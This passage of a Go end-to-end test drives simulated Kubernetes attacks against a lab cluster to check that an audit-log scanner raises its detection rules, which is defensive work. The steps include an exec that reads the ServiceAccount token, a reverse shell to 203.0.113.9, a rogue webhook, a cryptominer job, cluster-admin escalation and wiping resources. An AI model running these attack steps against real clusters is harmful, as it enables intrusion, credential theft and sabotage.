package e2e

import (
	"bufio"
	"bytes"
	"context"
	"crypto/ecdsa"
	"crypto/elliptic"
	"crypto/rand"
	"crypto/tls"
	"crypto/x509"
	"crypto/x509/pkix"
	"encoding/json"
	"encoding/pem"
	"fmt"
	"net/http"
	"net/url"
	"os"
	"os/exec"
	"path/filepath"
	"sort"
	"strings"
	"sync"
	"testing"
	"time"

	admissionregistrationv1 "k8s.io/api/admissionregistration/v1"
	appsv1 "k8s.io/api/apps/v1"
	authenticationv1 "k8s.io/api/authentication/v1"
	authorizationv1 "k8s.io/api/authorization/v1"
	batchv1 "k8s.io/api/batch/v1"
	certificatesv1 "k8s.io/api/certificates/v1"
	corev1 "k8s.io/api/core/v1"
	rbacv1 "k8s.io/api/rbac/v1"
	apierrors "k8s.io/apimachinery/pkg/api/errors"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"k8s.io/apimachinery/pkg/apis/meta/v1/unstructured"
	"k8s.io/apimachinery/pkg/runtime/schema"
	"k8s.io/apimachinery/pkg/types"
	"k8s.io/apimachinery/pkg/util/wait"
	"k8s.io/client-go/dynamic"
	"k8s.io/client-go/kubernetes"
	"k8s.io/client-go/rest"

	"github.com/apiguard/apiguard/internal/testsupport/syncbuf"
	"github.com/apiguard/apiguard/test/e2e/lab"
)

// auditRecorder maps the audit IDs kube-apiserver returns (Audit-Id
// response header) to the step of the script that made the request.
type auditRecorder struct {
	mu    sync.Mutex
	step  string
	steps map[string]string // auditID -> step
	order []string
}

func (r *auditRecorder) set(step string) {
	r.mu.Lock()
	r.step = step
	r.order = append(r.order, step)
	r.mu.Unlock()
}

func (r *auditRecorder) RoundTrip(rt http.RoundTripper, req *http.Request) (*http.Response, error) {
	resp, err := rt.RoundTrip(req)
	if resp != nil {
		if id := resp.Header.Get("Audit-Id"); id != "" {
			r.mu.Lock()
			r.steps[id] = r.step
			r.mu.Unlock()
		}
	}
	return resp, err
}

// client is a clientset for kubeconfig whose requests r records (with an
// X-Forwarded-For header when xff is set), the config changed by mod.
func (r *auditRecorder) client(t *testing.T, kubeconfig, xff string, mod func(*rest.Config)) kubernetes.Interface {
	t.Helper()
	cfg := r.wrap(lab.RESTConfig(t, kubeconfig), xff)
	if mod != nil {
		mod(cfg)
	}
	cs, err := kubernetes.NewForConfig(cfg)
	if err != nil {
		t.Fatal(err)
	}
	return cs
}

// waitLogged waits until every request r recorded (outside the steps
// named in skip) is in the audit log at path at its final stage:
// ResponseComplete, or ResponseStarted for a 401 (kube-apiserver writes a
// failed authentication at that stage only: WithFailedAuthenticationAudit).
func (r *auditRecorder) waitLogged(t *testing.T, path string, skip ...string) {
	t.Helper()
	eventually(t, 60*time.Second, "the recorded requests in the audit log", func() (bool, string) {
		complete := map[string]bool{}
		eachLine(t, path, func(line []byte) {
			var ev struct {
				AuditID        string `json:"auditID"`
				Stage          string `json:"stage"`
				ResponseStatus *struct {
					Code int `json:"code"`
				} `json:"responseStatus"`
			}
			if json.Unmarshal(line, &ev) != nil {
				return
			}
			if ev.Stage == "ResponseComplete" || (ev.Stage == "ResponseStarted" && ev.ResponseStatus != nil && ev.ResponseStatus.Code == http.StatusUnauthorized) {
				complete[ev.AuditID] = true
			}
		})
		r.mu.Lock()
		defer r.mu.Unlock()
		var missing []string
		for id, step := range r.steps {
			if !complete[id] && !contains(skip, step) {
				missing = append(missing, step+" "+id)
			}
		}
		return len(missing) == 0, fmt.Sprintf("missing %q", missing)
	})
}

// alertsByStep groups the alerts of `audit scan -o jsonl` output by the
// step that made their request ("" outside the recorded steps), then rule.
func (r *auditRecorder) alertsByStep(out []byte) map[string]map[string][]alertLine {
	byStep := map[string]map[string][]alertLine{}
	for _, line := range bytes.Split(out, []byte("\n")) {
		var a alertLine
		if json.Unmarshal(line, &a) != nil || a.Rule == "" {
			continue
		}
		r.mu.Lock()
		st := r.steps[a.AuditID]
		r.mu.Unlock()
		if byStep[st] == nil {
			byStep[st] = map[string][]alertLine{}
		}
		byStep[st][a.Rule] = append(byStep[st][a.Rule], a)
	}
	return byStep
}

type rtFunc func(*http.Request) (*http.Response, error)

func (f rtFunc) RoundTrip(req *http.Request) (*http.Response, error) { return f(req) }

// wrap makes cfg record audit IDs, and optionally send X-Forwarded-For.
func (r *auditRecorder) wrap(cfg *rest.Config, xff string) *rest.Config {
	cfg = rest.CopyConfig(cfg)
	cfg.QPS, cfg.Burst = 200, 400
	cfg.WrapTransport = func(rt http.RoundTripper) http.RoundTripper {
		return rtFunc(func(req *http.Request) (*http.Response, error) {
			if xff != "" {
				req = req.Clone(req.Context())
				req.Header.Set("X-Forwarded-For", xff)
			}
			return r.RoundTrip(rt, req)
		})
	}
	return cfg
}

// TestAuditScan runs a script of benign and attack requests against the
// Hardened lab (which writes an audit log under its RequestResponse policy)
// and checks that `apiguard audit scan` on the server's own log raises each
// attack's alerts, on that step's requests, and none on the benign steps.
func TestAuditScan(t *testing.T) {
	start := time.Now()
	ctx := context.Background()
	c := lab.Start(t, lab.Hardened)
	c.WaitAggregated(t)
	rec := &auditRecorder{steps: map[string]string{}}
	client := func(kubeconfig, xff string, mod func(*rest.Config)) kubernetes.Interface {
		return rec.client(t, kubeconfig, xff, mod)
	}
	admin := client(c.AdminKubeconfig, "", nil)
	aliceKC := c.UserKubeconfig(t, "dev-alice", "dev")
	alice := client(aliceKC, "", nil)
	malloryKC := c.UserKubeconfig(t, "mallory")
	mallory := client(malloryKC, "", nil)
	eve := client(c.UserKubeconfig(t, "eve"), "", nil)
	malloryDyn, err := dynamic.NewForConfig(rec.wrap(lab.RESTConfig(t, malloryKC), ""))
	if err != nil {
		t.Fatal(err)
	}
	must := func(what string, err error) {
		t.Helper()
		if err != nil {
			t.Fatalf("%s: %v", what, err)
		}
	}
	// tolerate: attacks the server refuses (admission, a missing kubelet)
	// are still logged, which is what the scan reads.
	tolerate := func(what string, err error) {
		t.Helper()
		if err != nil {
			t.Logf("%s: %v (expected: the request is logged anyway)", what, err)
		}
	}
	raw := func(cs kubernetes.Interface, verb, uri string, body []byte) error {
		path, query, _ := strings.Cut(uri, "?")
		req := cs.CoreV1().RESTClient().Verb(verb).AbsPath(path)
		q, err := url.ParseQuery(query)
		must("query of "+uri, err)
		for k, vs := range q {
			for _, v := range vs {
				req = req.Param(k, v)
			}
		}
		if body != nil {
			req = req.Body(body).SetHeader("Content-Type", "application/strategic-merge-patch+json")
		}
		return req.Do(ctx).Error()
	}

	// --follow tails the server's log while the script runs; at the end it
	// must have raised what the scan of the finished file raises.
	policyFile := ""
	for _, a := range c.APIServerArgs {
		if v, ok := strings.CutPrefix(a, "--audit-policy-file="); ok {
			policyFile = v
		}
	}
	scanArgs := []string{"-o", "jsonl", "--policy", policyFile, "--allow-cidrs", "127.0.0.0/8,::1/128", "--pod-cidrs", "10.244.0.0/16", "--node-cidrs", "127.0.0.0/8,::1/128"}
	follow := exec.Command(apiguardBin.path, append([]string{"audit", "scan", "--follow", c.AuditLogPath, "--fail-on", "none"}, scanArgs...)...)
	follow.Env = append(os.Environ(), "NO_COLOR=1")
	var followOut, followErr syncbuf.Buffer
	follow.Stdout, follow.Stderr = &followOut, &followErr
	if err := follow.Start(); err != nil {
		t.Fatal(err)
	}
	defer follow.Process.Kill()

	// ---- Setup (admin): not a step, its alerts are not asserted.
	rec.set("setup")
	for _, ns := range []string{"shop", "scratch", "falco"} {
		_, err := admin.CoreV1().Namespaces().Create(ctx, &corev1.Namespace{ObjectMeta: metav1.ObjectMeta{Name: ns}}, metav1.CreateOptions{})
		must("namespace "+ns, err)
	}
	_, err = admin.RbacV1().RoleBindings("shop").Create(ctx, &rbacv1.RoleBinding{
		ObjectMeta: metav1.ObjectMeta{Name: "dev-edit"},
		RoleRef:    rbacv1.RoleRef{APIGroup: rbacv1.GroupName, Kind: "ClusterRole", Name: "edit"},
		Subjects:   []rbacv1.Subject{{APIGroup: rbacv1.GroupName, Kind: rbacv1.GroupKind, Name: "dev"}},
	}, metav1.CreateOptions{})
	must("dev-edit binding", err)
	_, err = admin.CoreV1().Secrets("kube-system").Create(ctx, &corev1.Secret{ObjectMeta: metav1.ObjectMeta{Name: "cloud-credentials"}, StringData: map[string]string{"key": "AKIA-not-real"}}, metav1.CreateOptions{})
	must("kube-system secret", err)
	_, err = admin.CoreV1().ServiceAccounts("shop").Create(ctx, &corev1.ServiceAccount{ObjectMeta: metav1.ObjectMeta{Name: "legacy"}}, metav1.CreateOptions{})
	must("legacy SA", err)
	_, err = admin.CoreV1().Secrets("shop").Create(ctx, &corev1.Secret{
		ObjectMeta: metav1.ObjectMeta{Name: "legacy-token", Annotations: map[string]string{corev1.ServiceAccountNameKey: "legacy"}},
		Type:       corev1.SecretTypeServiceAccountToken,
	}, metav1.CreateOptions{})
	must("legacy token secret", err)
	vapFail := admissionregistrationv1.Ignore
	_, err = admin.AdmissionregistrationV1().ValidatingAdmissionPolicies().Create(ctx, &admissionregistrationv1.ValidatingAdmissionPolicy{
		ObjectMeta: metav1.ObjectMeta{Name: "require-team-label"},
		Spec: admissionregistrationv1.ValidatingAdmissionPolicySpec{
			FailurePolicy: &vapFail,
			MatchConstraints: &admissionregistrationv1.MatchResources{ResourceRules: []admissionregistrationv1.NamedRuleWithOperations{{
				RuleWithOperations: admissionregistrationv1.RuleWithOperations{Operations: []admissionregistrationv1.OperationType{"CREATE"},
					Rule: admissionregistrationv1.Rule{APIGroups: []string{"apps"}, APIVersions: []string{"v1"}, Resources: []string{"statefulsets"}}}}}},
			Validations: []admissionregistrationv1.Validation{{Expression: "true"}},
		},
	}, metav1.CreateOptions{})
	must("VAP", err)
	var legacyToken string
	must("legacy token populated", wait.PollUntilContextTimeout(ctx, 200*time.Millisecond, 60*time.Second, true, func(ctx context.Context) (bool, error) {
		s, err := admin.CoreV1().Secrets("shop").Get(ctx, "legacy-token", metav1.GetOptions{})
		if err != nil {
			return false, nil
		}
		legacyToken = string(s.Data["token"])
		return legacyToken != "", nil
	}))
	legacyKC := c.TokenKubeconfig(t, "legacy", legacyToken)

	// ---- The script: benign steps (no alert may point at them) and attacks
	// with the rules they must raise.
	type step struct {
		name   string
		attack []string // rules expected; empty for a benign step
		run    func()
	}
	plainPod := func(name string) *corev1.Pod {
		no := false
		yes := true
		return &corev1.Pod{ObjectMeta: metav1.ObjectMeta{Name: name}, Spec: corev1.PodSpec{Containers: []corev1.Container{{
			Name: "app", Image: "registry.k8s.io/pause:3.10",
			SecurityContext: &corev1.SecurityContext{AllowPrivilegeEscalation: &no, RunAsNonRoot: &yes,
				Capabilities: &corev1.Capabilities{Drop: []corev1.Capability{"ALL"}}, SeccompProfile: &corev1.SeccompProfile{Type: corev1.SeccompProfileTypeRuntimeDefault}},
		}}}}
	}
	labels := map[string]string{"app": "web"}
	deployment := func(name string, spec corev1.PodSpec) *appsv1.Deployment {
		return &appsv1.Deployment{ObjectMeta: metav1.ObjectMeta{Name: name}, Spec: appsv1.DeploymentSpec{
			Selector: &metav1.LabelSelector{MatchLabels: labels},
			Template: corev1.PodTemplateSpec{ObjectMeta: metav1.ObjectMeta{Labels: labels}, Spec: spec}}}
	}
	hostPathType := corev1.HostPathDirectory
	priv := true
	steps := []step{
		{name: "benign: developer works in her namespace", run: func() {
			_, err := alice.CoreV1().ConfigMaps("shop").Create(ctx, &corev1.ConfigMap{ObjectMeta: metav1.ObjectMeta{Name: "web-config"}, Data: map[string]string{"LOG_LEVEL": "info"}}, metav1.CreateOptions{})
			must("configmap", err)
			_, err = alice.CoreV1().ConfigMaps("shop").Get(ctx, "web-config", metav1.GetOptions{})
			must("get configmap", err)
			_, err = alice.CoreV1().Secrets("shop").Create(ctx, &corev1.Secret{ObjectMeta: metav1.ObjectMeta{Name: "db"}, StringData: map[string]string{"password": "x"}}, metav1.CreateOptions{})
			must("secret", err)
			_, err = alice.CoreV1().Secrets("shop").Get(ctx, "db", metav1.GetOptions{})
			must("get secret", err)
			_, err = alice.AppsV1().Deployments("shop").Create(ctx, deployment("web", plainPod("x").Spec), metav1.CreateOptions{})
			must("deployment", err)
			_, err = alice.CoreV1().Pods("shop").Create(ctx, plainPod("web"), metav1.CreateOptions{})
			must("pod", err)
			_, err = alice.CoreV1().Services("shop").Create(ctx, &corev1.Service{ObjectMeta: metav1.ObjectMeta{Name: "web"},
				Spec: corev1.ServiceSpec{Selector: labels, Ports: []corev1.ServicePort{{Port: 80}}}}, metav1.CreateOptions{})
			must("service", err)
			_, err = alice.CoreV1().Pods("shop").List(ctx, metav1.ListOptions{})
			must("list pods", err)
			_, err = alice.AuthorizationV1().SelfSubjectRulesReviews().Create(ctx, &authorizationv1.SelfSubjectRulesReview{Spec: authorizationv1.SelfSubjectRulesReviewSpec{Namespace: "shop"}}, metav1.CreateOptions{})
			must("can-i --list", err)
			for i := 0; i < 5; i++ { // a few denials: below every threshold
				_, err = alice.CoreV1().Nodes().List(ctx, metav1.ListOptions{})
				if !apierrors.IsForbidden(err) {
					t.Fatalf("alice list nodes: want forbidden, got %v", err)
				}
			}
		}},
		{name: "benign: health checks and admin reads", run: func() {
			for _, p := range []string{"/livez", "/readyz"} {
				if st := anonymousGet(t, c, rec, p); st != http.StatusOK {
					t.Fatalf("anonymous %s: %d", p, st)
				}
			}
			_, err := admin.CoreV1().Nodes().List(ctx, metav1.ListOptions{})
			must("admin list nodes", err)
			_, err = admin.CoreV1().Namespaces().List(ctx, metav1.ListOptions{})
			must("admin list namespaces", err)
		}},
		{name: "attack: cluster-admin bound to a user", attack: []string{"AG-DET-401"}, run: func() {
			_, err := admin.RbacV1().ClusterRoleBindings().Create(ctx, &rbacv1.ClusterRoleBinding{
				ObjectMeta: metav1.ObjectMeta{Name: "mallory-admin"},
				RoleRef:    rbacv1.RoleRef{APIGroup: rbacv1.GroupName, Kind: "ClusterRole", Name: "cluster-admin"},
				Subjects:   []rbacv1.Subject{{APIGroup: rbacv1.GroupName, Kind: rbacv1.UserKind, Name: "mallory"}},
			}, metav1.CreateOptions{})
			must("binding", err)
		}},
		{name: "attack: privileged pod (refused by Pod Security)", attack: []string{"AG-DET-409"}, run: func() {
			p := plainPod("priv")
			p.Spec.Containers[0].SecurityContext = &corev1.SecurityContext{Privileged: &priv}
			_, err := mallory.CoreV1().Pods("shop").Create(ctx, p, metav1.CreateOptions{})
			if !apierrors.IsForbidden(err) {
				t.Logf("privileged pod: %v (Pod Security should refuse it)", err)
			}
		}},
		{name: "attack: Deployment with hostPID, /etc and SYS_ADMIN", attack: []string{"AG-DET-410", "AG-DET-411", "AG-DET-413"}, run: func() {
			spec := corev1.PodSpec{HostPID: true,
				Volumes: []corev1.Volume{{Name: "etc", VolumeSource: corev1.VolumeSource{HostPath: &corev1.HostPathVolumeSource{Path: "/etc/", Type: &hostPathType}}}},
				Containers: []corev1.Container{{Name: "c", Image: "busybox", SecurityContext: &corev1.SecurityContext{
					Capabilities: &corev1.Capabilities{Add: []corev1.Capability{"SYS_ADMIN"}}}}}}
			d := deployment("node-agent", spec)
			_, err := mallory.AppsV1().Deployments("shop").Create(ctx, d, metav1.CreateOptions{})
			tolerate("host deployment", err)
		}},
		{name: "attack: exec reading the ServiceAccount token", attack: []string{"AG-DET-201", "AG-DET-606"}, run: func() {
			tolerate("exec", raw(mallory, "POST", "/api/v1/namespaces/shop/pods/web/exec?command=cat&command=%2Fvar%2Frun%2Fsecrets%2Fkubernetes.io%2Fserviceaccount%2Ftoken&container=app&stdout=true", nil))
		}},
		{name: "attack: reverse shell over a WebSocket exec (verb get)", attack: []string{"AG-DET-201", "AG-DET-203"}, run: func() {
			tolerate("exec get", raw(mallory, "GET", "/api/v1/namespaces/shop/pods/web/exec?command=bash&command=-c&command=bash+-i+%3E%26+%2Fdev%2Ftcp%2F203.0.113.9%2F4444+0%3E%261&container=app&stdin=true&stdout=true", nil))
		}},
		{name: "attack: attach", attack: []string{"AG-DET-202"}, run: func() {
			tolerate("attach", raw(mallory, "POST", "/api/v1/namespaces/shop/pods/web/attach?container=app&stdin=true&stdout=true", nil))
		}},
		{name: "attack: port-forward", attack: []string{"AG-DET-204"}, run: func() {
			tolerate("portforward", raw(mallory, "POST", "/api/v1/namespaces/shop/pods/web/portforward?ports=8080", nil))
		}},
		{name: "attack: ephemeral debug container", attack: []string{"AG-DET-206"}, run: func() {
			patch := []byte(`{"spec":{"ephemeralContainers":[{"name":"debugger","image":"busybox:1.36","targetContainerName":"app","stdin":true,"tty":true}]}}`)
			_, err := mallory.CoreV1().Pods("shop").Patch(ctx, "web", types.StrategicMergePatchType, patch, metav1.PatchOptions{}, "ephemeralcontainers")
			tolerate("ephemeral container", err)
		}},
		{name: "attack: kubelet API through nodes/proxy", attack: []string{"AG-DET-414"}, run: func() {
			tolerate("nodes/proxy", raw(mallory, "GET", "/api/v1/nodes/"+c.NodeName+"/proxy/runningpods/", nil))
		}},
		{name: "attack: ServiceAccount and token in kube-system", attack: []string{"AG-DET-301", "AG-DET-302", "AG-DET-316"}, run: func() {
			_, err := mallory.CoreV1().ServiceAccounts("kube-system").Create(ctx, &corev1.ServiceAccount{ObjectMeta: metav1.ObjectMeta{Name: "backdoor"}}, metav1.CreateOptions{})
			must("kube-system SA", err)
			_, err = mallory.CoreV1().ServiceAccounts("kube-system").CreateToken(ctx, "backdoor", &authenticationv1.TokenRequest{Spec: authenticationv1.TokenRequestSpec{}}, metav1.CreateOptions{})
			must("token", err)
		}},
		{name: "attack: client certificate minted and approved", attack: []string{"AG-DET-306", "AG-DET-307", "AG-DET-315"}, run: func() {
			csr, err := mallory.CertificatesV1().CertificateSigningRequests().Create(ctx, &certificatesv1.CertificateSigningRequest{
				ObjectMeta: metav1.ObjectMeta{Name: "mallory-client"},
				Spec: certificatesv1.CertificateSigningRequestSpec{Request: csrPEM(t, "backdoor-admin", "kubeadm:cluster-admins"),
					SignerName: certificatesv1.KubeAPIServerClientSignerName, Usages: []certificatesv1.KeyUsage{certificatesv1.UsageClientAuth}},
			}, metav1.CreateOptions{})
			must("csr", err)
			csr.Status.Conditions = append(csr.Status.Conditions, certificatesv1.CertificateSigningRequestCondition{
				Type: certificatesv1.CertificateApproved, Status: corev1.ConditionTrue, Reason: "Approved", Message: "lgtm"})
			_, err = mallory.CertificatesV1().CertificateSigningRequests().UpdateApproval(ctx, csr.Name, csr, metav1.UpdateOptions{})
			must("approve", err)
		}},
		{name: "attack: cluster-admin granted, used, and the binding deleted", attack: []string{"AG-DET-401", "AG-DET-506"}, run: func() {
			_, err := mallory.RbacV1().ClusterRoleBindings().Create(ctx, &rbacv1.ClusterRoleBinding{ObjectMeta: metav1.ObjectMeta{Name: "tmp-admin"},
				RoleRef:  rbacv1.RoleRef{APIGroup: rbacv1.GroupName, Kind: "ClusterRole", Name: "cluster-admin"},
				Subjects: []rbacv1.Subject{{APIGroup: rbacv1.GroupName, Kind: rbacv1.UserKind, Name: "eve"}}}, metav1.CreateOptions{})
			must("tmp-admin binding", err)
			must("delete tmp-admin", mallory.RbacV1().ClusterRoleBindings().Delete(ctx, "tmp-admin", metav1.DeleteOptions{}))
		}},
		{name: "attack: mutating webhook registered and removed", attack: []string{"AG-DET-308", "AG-DET-508"}, run: func() {
			fail := admissionregistrationv1.Ignore
			none := admissionregistrationv1.SideEffectClassNone
			url := "https://203.0.113.9/mutate"
			_, err := mallory.AdmissionregistrationV1().MutatingWebhookConfigurations().Create(ctx, &admissionregistrationv1.MutatingWebhookConfiguration{
				ObjectMeta: metav1.ObjectMeta{Name: "inject"},
				Webhooks: []admissionregistrationv1.MutatingWebhook{{Name: "inject.example.com", ClientConfig: admissionregistrationv1.WebhookClientConfig{URL: &url},
					FailurePolicy: &fail, SideEffects: &none, AdmissionReviewVersions: []string{"v1"},
					ObjectSelector: &metav1.LabelSelector{MatchLabels: map[string]string{"never": "matches"}}}},
			}, metav1.CreateOptions{})
			must("webhook", err)
			must("delete webhook", mallory.AdmissionregistrationV1().MutatingWebhookConfigurations().Delete(ctx, "inject", metav1.DeleteOptions{}))
		}},
		{name: "attack: APIService registered", attack: []string{"AG-DET-309"}, run: func() {
			gvr := schema.GroupVersionResource{Group: "apiregistration.k8s.io", Version: "v1", Resource: "apiservices"}
			obj := &unstructured.Unstructured{Object: map[string]any{
				"apiVersion": "apiregistration.k8s.io/v1", "kind": "APIService",
				"metadata": map[string]any{"name": "v1beta1.evil.example.com"},
				"spec": map[string]any{"group": "evil.example.com", "version": "v1beta1", "groupPriorityMinimum": int64(100), "versionPriority": int64(100),
					"insecureSkipTLSVerify": true, "service": map[string]any{"namespace": "shop", "name": "web"}},
			}}
			_, err := malloryDyn.Resource(gvr).Create(ctx, obj, metav1.CreateOptions{})
			must("apiservice", err)
			must("delete apiservice", malloryDyn.Resource(gvr).Delete(ctx, "v1beta1.evil.example.com", metav1.DeleteOptions{}))
		}},
		{name: "attack: kube-system ConfigMaps changed (kube-proxy, coredns, aws-auth)", attack: []string{"AG-DET-312", "AG-DET-904", "AG-DET-313"}, run: func() {
			for _, n := range []string{"kube-proxy", "coredns", "aws-auth"} {
				_, err := mallory.CoreV1().ConfigMaps("kube-system").Create(ctx, &corev1.ConfigMap{ObjectMeta: metav1.ObjectMeta{Name: n}, Data: map[string]string{"x": "y"}}, metav1.CreateOptions{})
				must("configmap "+n, err)
			}
		}},
		{name: "attack: Secrets listed cluster-wide and a kube-system Secret read", attack: []string{"AG-DET-601", "AG-DET-603"}, run: func() {
			_, err := mallory.CoreV1().Secrets("").List(ctx, metav1.ListOptions{})
			must("list secrets", err)
			_, err = mallory.CoreV1().Secrets("kube-system").Get(ctx, "cloud-credentials", metav1.GetOptions{})
			must("get secret", err)
		}},
		{name: "attack: privileged pod forged with the ReplicaSet controller's token", attack: []string{"AG-DET-418"}, run: func() {
			// The controller's own credentials (a token of its ServiceAccount,
			// as when stolen) and an owner whose write is not in the log.
			// (Impersonating the controller is the impersonator's act:
			// AG-DET-408 and AG-DET-409 name it, the real server shows.)
			sa := "replicaset-controller"
			if _, err := admin.CoreV1().ServiceAccounts("kube-system").Get(ctx, sa, metav1.GetOptions{}); apierrors.IsNotFound(err) {
				_, err = admin.CoreV1().ServiceAccounts("kube-system").Create(ctx, &corev1.ServiceAccount{ObjectMeta: metav1.ObjectMeta{Name: sa}}, metav1.CreateOptions{})
				must("controller SA", err)
			}
			tr, err := admin.CoreV1().ServiceAccounts("kube-system").CreateToken(ctx, sa, &authenticationv1.TokenRequest{Spec: authenticationv1.TokenRequestSpec{}}, metav1.CreateOptions{})
			must("controller token", err)
			forger := client(c.TokenKubeconfig(t, "rs-controller", tr.Status.Token), "", nil)
			priv := true
			_, err = forger.CoreV1().Pods("shop").Create(ctx, &corev1.Pod{ObjectMeta: metav1.ObjectMeta{Name: "web-7d4b9-x2x9z",
				OwnerReferences: []metav1.OwnerReference{{APIVersion: "apps/v1", Kind: "ReplicaSet", Name: "web-7d4b9", UID: "7e0d1e2a-1111-4222-8333-944455556666"}}},
				Spec: corev1.PodSpec{Containers: []corev1.Container{{Name: "app", Image: "registry.k8s.io/pause:3.10", SecurityContext: &corev1.SecurityContext{Privileged: &priv}}}}}, metav1.CreateOptions{})
			tolerate("forged pod (refused by Pod Security after the authorizer allowed it)", err)
		}},
		{name: "attack: impersonating system:masters", attack: []string{"AG-DET-408"}, run: func() {
			imp := client(malloryKC, "", func(cfg *rest.Config) {
				cfg.Impersonate = rest.ImpersonationConfig{UserName: "anyone", Groups: []string{"system:masters"}}
			})
			_, err := imp.CoreV1().Pods("kube-system").List(ctx, metav1.ListOptions{})
			must("impersonated list", err)
		}},
		{name: "attack: wildcard ClusterRole", attack: []string{"AG-DET-403"}, run: func() {
			_, err := mallory.RbacV1().ClusterRoles().Create(ctx, &rbacv1.ClusterRole{ObjectMeta: metav1.ObjectMeta{Name: "everything"},
				Rules: []rbacv1.PolicyRule{{APIGroups: []string{"*"}, Resources: []string{"*"}, Verbs: []string{"*"}}}}, metav1.CreateOptions{})
			must("clusterrole", err)
		}},
		{name: "attack: view bound to system:authenticated", attack: []string{"AG-DET-402"}, run: func() {
			_, err := mallory.RbacV1().RoleBindings("shop").Create(ctx, &rbacv1.RoleBinding{ObjectMeta: metav1.ObjectMeta{Name: "everyone-view"},
				RoleRef:  rbacv1.RoleRef{APIGroup: rbacv1.GroupName, Kind: "ClusterRole", Name: "view"},
				Subjects: []rbacv1.Subject{{APIGroup: rbacv1.GroupName, Kind: rbacv1.GroupKind, Name: "system:authenticated"}}}, metav1.CreateOptions{})
			must("binding", err)
		}},
		{name: "attack: pod in kube-system, NodePort Service, DaemonSet, CronJob, miner Job", attack: []string{"AG-DET-207", "AG-DET-107", "AG-DET-310", "AG-DET-311", "AG-DET-905"}, run: func() {
			_, err := mallory.CoreV1().Pods("kube-system").Create(ctx, plainPod("kube-proxy-x7"), metav1.CreateOptions{})
			must("kube-system pod", err)
			_, err = mallory.CoreV1().Services("shop").Create(ctx, &corev1.Service{ObjectMeta: metav1.ObjectMeta{Name: "exposed"},
				Spec: corev1.ServiceSpec{Type: corev1.ServiceTypeNodePort, Selector: labels, Ports: []corev1.ServicePort{{Port: 80}}}}, metav1.CreateOptions{})
			must("nodeport", err)
			pod := plainPod("x").Spec
			_, err = mallory.AppsV1().DaemonSets("shop").Create(ctx, &appsv1.DaemonSet{ObjectMeta: metav1.ObjectMeta{Name: "agent"}, Spec: appsv1.DaemonSetSpec{
				Selector: &metav1.LabelSelector{MatchLabels: labels}, Template: corev1.PodTemplateSpec{ObjectMeta: metav1.ObjectMeta{Labels: labels}, Spec: pod}}}, metav1.CreateOptions{})
			must("daemonset", err)
			job := corev1.PodTemplateSpec{Spec: plainPod("x").Spec}
			job.Spec.RestartPolicy = corev1.RestartPolicyNever
			_, err = mallory.BatchV1().CronJobs("shop").Create(ctx, &batchv1.CronJob{ObjectMeta: metav1.ObjectMeta{Name: "nightly"}, Spec: batchv1.CronJobSpec{
				Schedule: "0 0 1 1 *", JobTemplate: batchv1.JobTemplateSpec{Spec: batchv1.JobSpec{Template: job}}}}, metav1.CreateOptions{})
			must("cronjob", err)
			miner := job.DeepCopy()
			miner.Spec.Containers[0].Image = "docker.io/evil/xmrig:6.21"
			_, err = mallory.BatchV1().Jobs("shop").Create(ctx, &batchv1.Job{ObjectMeta: metav1.ObjectMeta{Name: "miner"}, Spec: batchv1.JobSpec{Template: *miner}}, metav1.CreateOptions{})
			must("miner job", err)
		}},
		{name: "attack: rogue Node registered", attack: []string{"AG-DET-106"}, run: func() {
			_, err := mallory.CoreV1().Nodes().Create(ctx, &corev1.Node{ObjectMeta: metav1.ObjectMeta{Name: "rogue"}}, metav1.CreateOptions{})
			must("node", err)
		}},
		{name: "attack: burst of forbidden requests", attack: []string{"AG-DET-701", "AG-DET-702"}, run: func() {
			for i := 0; i < 35; i++ {
				_, err := eve.CoreV1().Secrets(fmt.Sprintf("ns-%d", i)).List(ctx, metav1.ListOptions{})
				if !apierrors.IsForbidden(err) {
					t.Fatalf("eve: want forbidden, got %v", err)
				}
			}
		}},
		{name: "attack: failed authentication spray", attack: []string{"AG-DET-103"}, run: func() {
			for i := 0; i < 25; i++ {
				if st := anonymousGet(t, c, rec, "/api/v1/secrets"); st != http.StatusUnauthorized {
					t.Fatalf("anonymous /api/v1/secrets: %d, want 401", st)
				}
			}
		}},
		{name: "attack: legacy ServiceAccount token used", attack: []string{"AG-DET-607", "AG-DET-703"}, run: func() {
			_, err := client(legacyKC, "", nil).CoreV1().Pods("default").List(ctx, metav1.ListOptions{})
			if !apierrors.IsForbidden(err) {
				t.Fatalf("legacy token list pods: want forbidden, got %v", err)
			}
		}},
		{name: "attack: ServiceAccount reviews its permissions", attack: []string{"AG-DET-704"}, run: func() {
			_, err := client(legacyKC, "", nil).AuthorizationV1().SelfSubjectRulesReviews().Create(ctx, &authorizationv1.SelfSubjectRulesReview{Spec: authorizationv1.SelfSubjectRulesReviewSpec{Namespace: "shop"}}, metav1.CreateOptions{})
			must("ssrr", err)
		}},
		{name: "attack: request from outside --allow-cidrs", attack: []string{"AG-DET-104"}, run: func() {
			_, err := client(malloryKC, "203.0.113.50", nil).CoreV1().Pods("shop").List(ctx, metav1.ListOptions{})
			must("xff list", err)
		}},
		{name: "attack: stolen ServiceAccount token replayed from outside", attack: []string{"AG-DET-105", "AG-DET-104"}, run: func() {
			_, err := client(legacyKC, "198.51.100.7", nil).CoreV1().ConfigMaps("shop").List(ctx, metav1.ListOptions{})
			tolerate("stolen token", err)
		}},
		{name: "attack: reconnaissance tool", attack: []string{"AG-DET-705"}, run: func() {
			_, err := client(malloryKC, "", func(cfg *rest.Config) { cfg.UserAgent = "rakkess/v0.5.0 (linux/amd64) kubernetes/$Format" }).CoreV1().Pods("").List(ctx, metav1.ListOptions{})
			must("rakkess", err)
		}},
		{name: "attack: admission policy deleted", attack: []string{"AG-DET-502"}, run: func() {
			must("delete vap", mallory.AdmissionregistrationV1().ValidatingAdmissionPolicies().Delete(ctx, "require-team-label", metav1.DeleteOptions{}))
		}},
		{name: "attack: events wiped", attack: []string{"AG-DET-501"}, run: func() {
			must("delete events", mallory.CoreV1().Events("shop").DeleteCollection(ctx, metav1.DeleteOptions{}, metav1.ListOptions{}))
		}},
		{name: "attack: pods wiped", attack: []string{"AG-DET-901"}, run: func() {
			must("delete pods", mallory.CoreV1().Pods("shop").DeleteCollection(ctx, metav1.DeleteOptions{}, metav1.ListOptions{}))
		}},
		{name: "attack: security tooling namespace and a namespace deleted", attack: []string{"AG-DET-505", "AG-DET-903"}, run: func() {
			must("delete falco", mallory.CoreV1().Namespaces().Delete(ctx, "falco", metav1.DeleteOptions{}))
			must("delete scratch", mallory.CoreV1().Namespaces().Delete(ctx, "scratch", metav1.DeleteOptions{}))
		}},
